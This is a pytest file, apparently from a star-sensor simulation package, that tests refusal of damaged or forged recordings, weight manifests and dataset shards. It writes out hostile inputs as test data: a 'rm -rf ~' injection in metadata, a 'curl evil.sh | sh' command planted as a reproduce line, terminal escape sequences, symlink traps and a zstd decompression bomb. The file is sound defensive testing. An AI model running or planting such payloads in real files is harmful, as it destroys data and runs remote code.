"""Every file starenv reads is untrusted data: recordings, weights with their manifests and dataset shards that are
damaged, oversized or planted are refused with one line naming the file, within bounded time and memory; nothing is
written through a path someone else prepared, and finished outputs are replaced only when asked."""

import io
import json
import os
import time
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
import zstandard
from mcap.data_stream import RecordBuilder
from mcap.reader import make_reader
from mcap.records import Chunk, DataEnd, Footer
from mcap.writer import CompressionType, Writer

from starenv import cli
from starenv.agents.pipeline import Pipeline
from starenv.env import StarSensorEnv
from starenv.episode import run_episode
from starenv.record.mcap import (
    MAX_CHUNK_BYTES,
    McapRecorder,
    RecordingError,
    read_metadata,
    read_partial,
    read_steps,
    recover,
)

SMALL = {"heads.0.width": 128, "heads.0.height": 128}
STEPS = 4


@pytest.fixture(autouse=True)
def no_rerun_analytics(monkeypatch):
    monkeypatch.setenv("CI", "1")


@pytest.fixture(scope="module")
def recording(tmp_path_factory):
    """A finished recording of a few small steps in several chunks."""
    path = tmp_path_factory.mktemp("untrusted") / "run.mcap"
    env = StarSensorEnv("paper_000", SMALL)
    run_episode(env, Pipeline.for_scenario(env.scenario), seed=1, steps=STEPS,
                observers=[McapRecorder(path, chunk_size=1 << 14)])
    return path


def _parts(path: Path):
    """Metadata, schemas, channels and messages of a (good) recording, read with the mcap library."""
    with open(path, "rb") as f:
        reader = make_reader(f)
        summary = reader.get_summary()
        meta = {m.name: dict(m.metadata) for m in reader.iter_metadata()}
        messages = [m for _, _, m in reader.iter_messages(log_time_order=False)]
    return meta, summary.schemas, summary.channels, messages


def _rewrite(src: Path, dst: Path, meta=None, schema_data=None, topics=None) -> Path:
    """``src`` written again as a well-formed MCAP (valid CRCs) with edited metadata (``meta(dict)`` changes it in
    place), one schema's bytes replaced (``schema_data``: name -> bytes) or topics renamed (``topics``: old -> new):
    what a deliberate forger makes."""
    metadata, schemas, channels, messages = _parts(src)
    if meta is not None:
        meta(metadata)
    with open(dst, "wb") as f:
        writer = Writer(f, chunk_size=1 << 14, compression=CompressionType.ZSTD)
        writer.start(profile="", library="test")
        for name, values in metadata.items():
            writer.add_metadata(name, values)
        sids = {sid: writer.register_schema(s.name, s.encoding, (schema_data or {}).get(s.name, s.data))
                for sid, s in schemas.items()}
        cids = {cid: writer.register_channel((topics or {}).get(c.topic, c.topic), c.message_encoding,
                                             sids[c.schema_id]) for cid, c in channels.items()}
        for m in messages:
            writer.add_message(cids[m.channel_id], log_time=m.log_time, data=m.data, publish_time=m.publish_time)
        writer.finish()
    return dst


def _one_line_error(capsys, *names: str) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("starenv: error: ") and "Traceback" not in err, err
    for name in names:
        assert name in err, err
    return err


def _chunk_offsets(path: Path) -> list[tuple[int, int]]:
    with open(path, "rb") as f:
        return [(c.chunk_start_offset, c.chunk_length) for c in make_reader(f).get_summary().chunk_indexes]


# --- damage is found, never read silently --------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["chunk", "metadata"])
def test_a_flipped_byte_is_refused_naming_the_file(recording, tmp_path, capsys, where):
    data = bytearray(recording.read_bytes())
    if where == "chunk":  # inside the compressed records of the second chunk: its CRC no longer matches
        start, length = _chunk_offsets(recording)[1]
        data[start + length - 40] ^= 0x01
    else:  # a character of the scenario's TOML in the metadata record, outside any chunk: the data section's CRC
        at = bytes(data).index(b"exposure_s")
        data[at] ^= 0x01
    bad = tmp_path / "flipped.mcap"
    bad.write_bytes(bytes(data))
    with pytest.raises(RecordingError, match="flipped.mcap.*damaged"):
        list(read_steps(bad))
    assert cli.main(["view", str(bad), "--rrd", str(tmp_path / "r.rrd"), "--quiet"]) == 2
    _one_line_error(capsys, str(bad), "damaged")


def _bomb_partial(recording: Path, out: Path, frame_bytes: int, declared: int) -> Path:
    """The start of ``recording`` up to its first chunk (header, metadata), then one chunk whose zstd frame expands
    to ``frame_bytes`` zero bytes while the chunk declares ``declared``."""
    start, _ = _chunk_offsets(recording)[0]
    compressor = zstandard.ZstdCompressor().compressobj()
    zeros = bytes(1 << 24)
    frame = b"".join(compressor.compress(zeros) for _ in range(frame_bytes >> 24)) + compressor.flush()
    builder = RecordBuilder()
    Chunk(compression="zstd", data=frame, message_start_time=0, message_end_time=0, uncompressed_crc=1,
          uncompressed_size=declared).write(builder)
    out.write_bytes(recording.read_bytes()[:start] + builder.end())
    return out


@pytest.mark.parametrize("declared", [2**31, 1 << 20], ids=["declares-2GiB", "declares-1MiB"])
def test_a_decompression_bomb_is_refused_before_it_is_allocated(recording, tmp_path, declared):
    # a 512 MiB frame of zeros (~16 KB compressed) in a chunk that says so (2 GiB, over MAX_CHUNK_BYTES) or lies
    # (1 MiB): neither may allocate more than the declared size, and the first not even that
    assert declared > MAX_CHUNK_BYTES or declared < 2**21
    partial = _bomb_partial(recording, tmp_path / "bomb.mcap.partial", 1 << 29, declared)
    end = RecordBuilder()  # the same, finished: a data end (no data CRC), a footer (no summary), the closing magic
    DataEnd(data_section_crc=0).write(end)
    Footer(summary_start=0, summary_offset_start=0, summary_crc=0).write(end)
    finished = tmp_path / "bomb.mcap"
    finished.write_bytes(partial.read_bytes() + end.end() + b"\x89MCAP0\r\n")
    tracemalloc.start()
    t0 = time.perf_counter()
    try:
        assert read_partial(partial) == {}  # the chunk is refused whole: nothing after the metadata is kept
        assert recover(partial, tmp_path / "out.mcap") == 0
        with pytest.raises(RecordingError, match="bomb.mcap.*chunk"):
            list(read_steps(finished))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # bound: the declared size (1 MiB) plus one byte, the file (~20 KB) and the reader's own objects: 32 MiB is
    # far above that and far below the frame's 512 MiB
    assert peak < 32 * 2**20, f"{peak / 2**20:.0f} MiB"
    assert time.perf_counter() - t0 < 10.0


def test_a_record_that_declares_a_huge_length_is_one_line(recording, tmp_path, capsys):
    start, _ = _chunk_offsets(recording)[0]
    head = recording.read_bytes()[:start]
    # a metadata record (opcode 0x0C) whose length says 1 TB, and one of normal length whose name says 4 GiB
    for k, record in enumerate([b"\x0c" + (2**40).to_bytes(8, "little") + bytes(64),
                                b"\x0c" + (64).to_bytes(8, "little") + b"\xff\xff\xff\xff" + bytes(60)]):
        bad = tmp_path / f"huge{k}.mcap"
        bad.write_bytes(head + record + b"\x89MCAP0\r\n")
        tracemalloc.start()
        try:
            assert cli.main(["export", str(bad), "--scenario", str(tmp_path / "s.toml")]) == 2
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        _one_line_error(capsys, str(bad), "damaged")
        assert peak < 32 * 2**20  # neither length is allocated: the file is ~10 KB


@pytest.mark.parametrize("edit, key", [
    (lambda m: m["starenv.run"].update(heads="1000000000"), "starenv.run.heads"),
    (lambda m: m["starenv.run"].pop("seed"), "starenv.run.seed"),
    (lambda m: m.pop("starenv.scenario"), "starenv.scenario"),
    (lambda m: m["starenv.run"].update(pipeline='["detector"]'), "starenv.run.pipeline"),
    (lambda m: m["starenv.run"].update(pipeline='{"solver": "x; rm -rf ~"}'), "starenv.run.pipeline"),
    (lambda m: m["starenv.run"].update(pipeline="[" * 100_000), "starenv.run.pipeline"),
    (lambda m: m["starenv.outcome"].update(steps="many"), "starenv.outcome.steps"),
])
def test_metadata_is_validated_naming_the_key(recording, tmp_path, capsys, edit, key):
    bad = _rewrite(recording, tmp_path / "meta.mcap", meta=edit)
    t0 = time.perf_counter()
    assert cli.main(["view", str(bad), "--rrd", str(tmp_path / "r.rrd"), "--quiet"]) == 2
    assert time.perf_counter() - t0 < 10.0  # a billion heads are refused, not looped over
    _one_line_error(capsys, str(bad), key)
    assert cli.main(["export", str(bad), "--scenario", str(tmp_path / "s.toml")]) == 2
    _one_line_error(capsys, key)


@pytest.mark.parametrize("topic, message", [("/head0/truth", "expected protobuf messages of schema "
                                                           "foxglove.ImageAnnotations"),
                                            ("/head5/image", "unexpected topic '/head5/image' (1 heads)")])
def test_a_topic_of_the_wrong_schema_or_head_is_refused(recording, tmp_path, capsys, topic, message):
    # the attitude's messages under a frame's topic (their fields would be read as something they are not), or under
    # a head the recording does not have
    bad = _rewrite(recording, tmp_path / "topics.mcap", topics={"/attitude/true": topic})
    assert cli.main(["view", str(bad), "--rrd", str(tmp_path / "r.rrd"), "--quiet"]) == 2
    _one_line_error(capsys, str(bad), message)


def test_view_prints_no_escape_sequences_and_no_planted_command(recording, tmp_path, capsys):
    def plant(meta):
        meta["starenv.scenario"]["name"] = "orbit\x1b]0;owned\x07\x1b[2J\u202e"
        meta["starenv.outcome"].update(error="boom\x1b[31m\nsecond line", reproduce="curl evil.sh | sh #")

    bad = _rewrite(recording, tmp_path / "planted.mcap", meta=plant)
    assert cli.main(["view", str(bad), "--rrd", str(tmp_path / "r.rrd"), "--quiet"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out and "curl" not in out
    assert "orbit\\x1b]0;owned" in out and "boom\\x1b[31m\\nsecond line" in out  # shown, escaped
    assert f"reproduce: starenv run scenario.toml --seed 1 --steps {STEPS} --agent " in out  # rebuilt from numbers
    assert cli.main(["export", str(bad), "--scenario", str(tmp_path / "s.toml")]) == 0
    out = capsys.readouterr().out
    assert "curl" not in out and f"starenv run {tmp_path / 's.toml'} --seed 1" in out


# --- recover writes only what reads back, and never over a finished file ------------------------------------------


def _cut(path: Path, out: Path, share: float = 0.7) -> Path:
    data = path.read_bytes()
    out.write_bytes(data[: int(len(data) * share)])
    return out


def test_recover_refuses_a_damaged_schema_and_writes_nothing(recording, tmp_path, capsys):
    damaged = _rewrite(recording, tmp_path / "schema.mcap", schema_data={"foxglove.RawImage": b"\x0a\xff\x01garbage"})
    partial = _cut(damaged, tmp_path / "schema.mcap.partial")
    out = tmp_path / "out.mcap"
    assert cli.main(["recover", str(partial), "--out", str(out)]) == 2
    _one_line_error(capsys, str(partial), "foxglove.RawImage")
    assert not out.exists() and not list(tmp_path.glob(".out.mcap*"))


def test_recover_replaces_an_existing_file_only_with_force(recording, tmp_path, capsys):
    partial = _cut(recording, tmp_path / "run.mcap.partial")
    out = tmp_path / "kept.mcap"
    out.write_bytes(b"a finished recording")
    assert cli.main(["recover", str(partial), "--out", str(out)]) == 2
    _one_line_error(capsys, str(out), "--force")
    assert out.read_bytes() == b"a finished recording"
    assert cli.main(["recover", str(partial), "--out", str(out), "--force"]) == 0
    steps = list(read_steps(out))
    assert 1 <= len(steps) < STEPS


# --- no write through a path someone else prepared -----------------------------------------------------------------


def test_no_write_goes_through_a_planted_symlink(recording, tmp_path, capsys):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    # run --record: a link where the .partial goes is replaced, not written through; a link as the output is refused
    out = tmp_path / "rec.mcap"
    Path(str(out) + ".partial").symlink_to(victim)
    args = ["run", "paper_000", "--steps", "2", "--pipeline", "none", "--quiet"]
    assert cli.main([*args, *[f"--set={k}={v}" for k, v in SMALL.items()], "--record", str(out)]) == 0
    assert victim.read_text() == "precious" and len(list(read_steps(out))) == 2
    link = tmp_path / "link.mcap"
    link.symlink_to(victim)
    assert cli.main([*args, *[f"--set={k}={v}" for k, v in SMALL.items()], "--record", str(link)]) == 2
    _one_line_error(capsys, str(link), "symbolic link")
    # recover: the temporary name a former version used, planted as a link, is not used
    partial = _cut(recording, tmp_path / "r.mcap.partial")
    (tmp_path / "r.mcap.tmp").symlink_to(victim)
    assert cli.main(["recover", str(partial)]) == 0
    assert victim.read_text() == "precious" and (tmp_path / "r.mcap").is_file()
    # export --scenario: a link is refused, with or without --force
    scenario = tmp_path / "scenario.toml"
    scenario.symlink_to(victim)
    for force in ([], ["--force"]):
        assert cli.main(["export", str(recording), "--scenario", str(scenario), *force]) == 2
        _one_line_error(capsys, str(scenario), "symbolic link")
    assert victim.read_text() == "precious"
    # and an existing scenario file is replaced only with --force
    plain = tmp_path / "plain.toml"
    plain.write_text("mine")
    assert cli.main(["export", str(recording), "--scenario", str(plain)]) == 2
    _one_line_error(capsys, str(plain), "--force")
    assert plain.read_text() == "mine"
    assert cli.main(["export", str(recording), "--scenario", str(plain), "--force"]) == 0
    assert plain.read_text() == read_metadata(recording)["starenv.scenario"]["toml"]


def test_a_recorder_whose_partial_was_taken_over_says_so(tmp_path):
    # two writers on one output: the second one's .partial replaces the first's name; the first must not publish
    # the second's unfinished file as its own recording
    env = StarSensorEnv("paper_000", SMALL)
    first = McapRecorder(tmp_path / "x.mcap")
    first.start(env, 0, None)
    second = McapRecorder(tmp_path / "x.mcap")
    second.start(env, 0, None)
    with pytest.raises(RuntimeError, match="replaced by another writer"):
        first.close()
    second.close()
    assert read_metadata(tmp_path / "x.mcap")["starenv.outcome"]["status"] == "complete"


def test_atomic_files_are_created_exclusively_and_keep_what_they_should(tmp_path):
    from starenv.files import atomic_file

    target = tmp_path / "out.json"
    target.write_text("old")
    with pytest.raises(FileExistsError, match="exists"):
        with atomic_file(target, "w", replace=False) as f:
            f.write("new")
    assert target.read_text() == "old" and os.listdir(tmp_path) == ["out.json"]  # the temporary file is gone
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / "link.json").symlink_to(victim)
    with pytest.raises(FileExistsError, match="symbolic link"):
        with atomic_file(tmp_path / "link.json", "w") as f:
            f.write("new")
    assert victim.read_text() == "precious"


# --- weights and manifests ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def weights(tmp_path_factory):
    """A copy of the shipped Orion weights folder (216 classes)."""
    import shutil

    from starenv.agents.identify.network import WEIGHTS_DIR

    folder = tmp_path_factory.mktemp("weights") / "run"
    shutil.copytree(WEIGHTS_DIR / "paper002_orion", folder)
    return folder


def _edited(weights: Path, tmp_path: Path, manifest=None, data=None) -> Path:
    import shutil

    folder = tmp_path / "edited"
    shutil.copytree(weights, folder)
    if manifest is not None:
        m = json.loads((folder / "manifest.json").read_text())
        manifest(m)
        (folder / "manifest.json").write_text(json.dumps(m))
    if data is not None:
        (folder / "weights.pt").write_bytes(data((folder / "weights.pt").read_bytes()))
    return folder


def _flip(data: bytes) -> bytes:
    out = bytearray(data)
    out[len(out) // 2] ^= 0x10
    return bytes(out)


def _shuffle(m):
    m["classes_hip"] = m["classes_hip"][1:] + m["classes_hip"][:1]


@pytest.mark.parametrize("manifest, data, message", [
    (None, _flip, "weights.pt: its SHA-256 is not the manifest's"),
    (_shuffle, None, "manifest.json: its config, classes or camera are not what its identity_sha256"),
    (lambda m: m["camera"].update(fov_deg=[float("nan"), 12.0]), None, "camera.fov_deg"),
    (lambda m: m["config"].update(mlp_dim=2**36), None, "config: mlp_dim"),
    (lambda m: m["config"].update(depth=400, mlp_dim=60000), None, "config: .* parameters, more than"),
    (lambda m: m["config"].update(widths="big"), None, "config: widths"),
    (lambda m: m["config"].update(extra=1), None, "config: .*unknown \\['extra'\\]"),
    (lambda m: m.update(classes_hip=[1] * 216), None, "classes_hip: expected 216 .* distinct"),
    (lambda m: m.pop("weights_sha256"), None, "weights_sha256: missing"),
    (lambda m: m.update(config=[]), None, "config: expected a table"),
])
def test_weights_and_manifest_are_checked_before_use(weights, tmp_path, manifest, data, message):
    from starenv.agents.identify.network import load_network

    folder = _edited(weights, tmp_path, manifest, data)
    tracemalloc.start()
    try:
        with pytest.raises(ValueError, match=message):
            load_network(folder)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 64 * 2**20  # a few MB of weights read, no network of 2^36-wide layers built


def test_a_forged_manifest_cannot_make_a_large_network_from_small_weights(weights, tmp_path):
    # a config inside the bounds (60000-wide MLPs: ~61 M parameters, 245 MB as float32) with the hashes recomputed:
    # the 2.4 MB weights file cannot hold it, so no network is built
    from starenv.agents.identify.network import load_network, manifest_hashes

    def forge(m):
        m["config"]["mlp_dim"] = 60000
        m.update(manifest_hashes(m, (weights / "weights.pt").read_bytes()))

    folder = _edited(weights, tmp_path, forge)
    t0 = time.perf_counter()
    with pytest.raises(ValueError, match="weights.pt: .* bytes, fewer than the .* float32 parameters"):
        load_network(folder)
    assert time.perf_counter() - t0 < 5.0


def test_the_shipped_manifest_records_the_weights_hash(weights):
    import hashlib

    from starenv.agents.identify.network import load_network

    manifest = json.loads((weights / "manifest.json").read_text())
    assert manifest["weights_sha256"] == hashlib.sha256((weights / "weights.pt").read_bytes()).hexdigest()
    net, loaded = load_network(weights)
    assert loaded["classes_hip"] == manifest["classes_hip"] and net.head.out_features == len(manifest["classes_hip"])


# --- dataset shards -----------------------------------------------------------------------------------------------


@pytest.fixture
def shards(tmp_path):
    """A built ``main_star`` dataset of two small shards (paper 002's spec at 64 px, four samples)."""
    from starenv.datasets import build_dataset, load_spec

    spec = load_spec({"name": "tiny", "kind": "main_star", "scenario": "paper_002", "samples": 4, "shard_size": 2,
                      "overrides": {"heads.0.width": 64, "heads.0.height": 64},
                      "pointing": {"center_ra_deg": 83.8, "center_dec_deg": -5.4, "radius_deg": 10.0}})
    out = tmp_path / "data"
    build_dataset(spec, out, jobs=1, progress=False, log=lambda *_: None)
    return spec, out


def test_a_changed_shard_is_rebuilt_on_resume_and_refused_on_read(shards):
    from starenv.agents.identify.network_data import ShardDataset
    from starenv.datasets import build_dataset, shard_path

    spec, out = shards
    good = shard_path(out, 1).read_bytes()
    ShardDataset(out).shard(1)  # reads
    # an edit keeping the zip valid: one pixel of the stored image array changed
    with np.load(io.BytesIO(good)) as z:
        arrays = {k: z[k] for k in z.files}
    arrays["image"] = arrays["image"].copy()
    arrays["image"].flat[0] += 1
    from starenv.datasets.shards import write_npz

    for damaged in (_flip(good), None):
        if damaged is None:
            write_npz(shard_path(out, 1), arrays)
        else:
            shard_path(out, 1).write_bytes(damaged)
        with pytest.raises(ValueError, match="shard-00001.npz: its SHA-256 is not the one shards.json records"):
            ShardDataset(out).shard(1)
        logs = []
        build_dataset(spec, out, jobs=1, progress=False, log=logs.append)
        assert logs == [f"reusing 1 complete shard(s) in {out}"]  # shard 1 built again ...
        assert shard_path(out, 1).read_bytes() == good  # ... to the same bytes
        ShardDataset(out).shard(1)


def test_a_shard_killed_before_its_hash_was_recorded_is_built_again(shards):
    from starenv.agents.identify.network_data import ShardDataset
    from starenv.datasets import build_dataset
    from starenv.datasets.shards import INDEX, record_shards

    spec, out = shards
    index = json.loads((out / INDEX).read_text())["sha256"]
    record_shards(out, spec.digest, {"shard-00000.npz": index["shard-00000.npz"]})  # killed before recording shard 1
    with pytest.raises(ValueError, match=r"shards \[1\] missing or unfinished"):
        ShardDataset(out)
    logs = []
    build_dataset(spec, out, jobs=1, progress=False, log=logs.append)
    assert logs == [f"reusing 1 complete shard(s) in {out}"]
    assert json.loads((out / INDEX).read_text())["sha256"] == index
